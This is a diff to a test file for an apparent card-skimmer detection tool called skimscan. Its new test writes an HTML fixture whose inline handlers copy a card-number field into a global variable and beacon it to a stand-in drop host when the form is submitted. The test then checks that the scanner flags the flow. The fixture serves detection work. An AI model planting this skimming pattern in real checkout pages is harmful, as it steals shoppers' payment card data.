@@ -54,5 +54,23 @@ def test_load_file_reads_local_script_src(tmp_path: Path) -> None:
     assert len(external) == 1 and external[0].code == "console.log(1)"
     assert any("https://cdn.example.com/x.js" in n and "not fetched" in n for n in target.notes)
     assert any("missing.js" in n for n in target.notes)
-    inline = next(s for s in target.scripts if s.kind is ScriptKind.INLINE)
-    assert inline.line_offset == 13
+    [program] = [s for s in target.scripts if s.kind is ScriptKind.INLINE]
+    lines = program.code.split("\n")
+    assert lines[14] == "var x = 1;"  # document line 15
+    assert "track('pay')" in lines[9] and ".call(document.querySelector(" in lines[10]
+
+
+def test_handlers_share_globals_and_see_their_element(tmp_path: Path) -> None:
+    """A handler on a card input copies `this.value` into a global; the form's handler sends the
+    global: one flow, because the browser runs both in one global scope."""
+    page = tmp_path / "pay.html"
+    page.write_text(
+        "<form onsubmit=\"navigator.sendBeacon('https://drop-cdn.example.net/c', "
+        "JSON.stringify(window._b))\">\n"
+        "<input name='x_card_num' onblur='window._b = {n: this.value}'>\n</form>\n"
+    )
+    from skimscan.pipeline import Engine, EngineOptions, scan_files
+
+    [target] = scan_files([page], engine=Engine(EngineOptions(use_disk_cache=False))).targets
+    flows = [f for f in target.findings if f.rule == "card-data-to-untrusted-host"]
+    assert flows and flows[0].location is not None and flows[0].location.line == 1
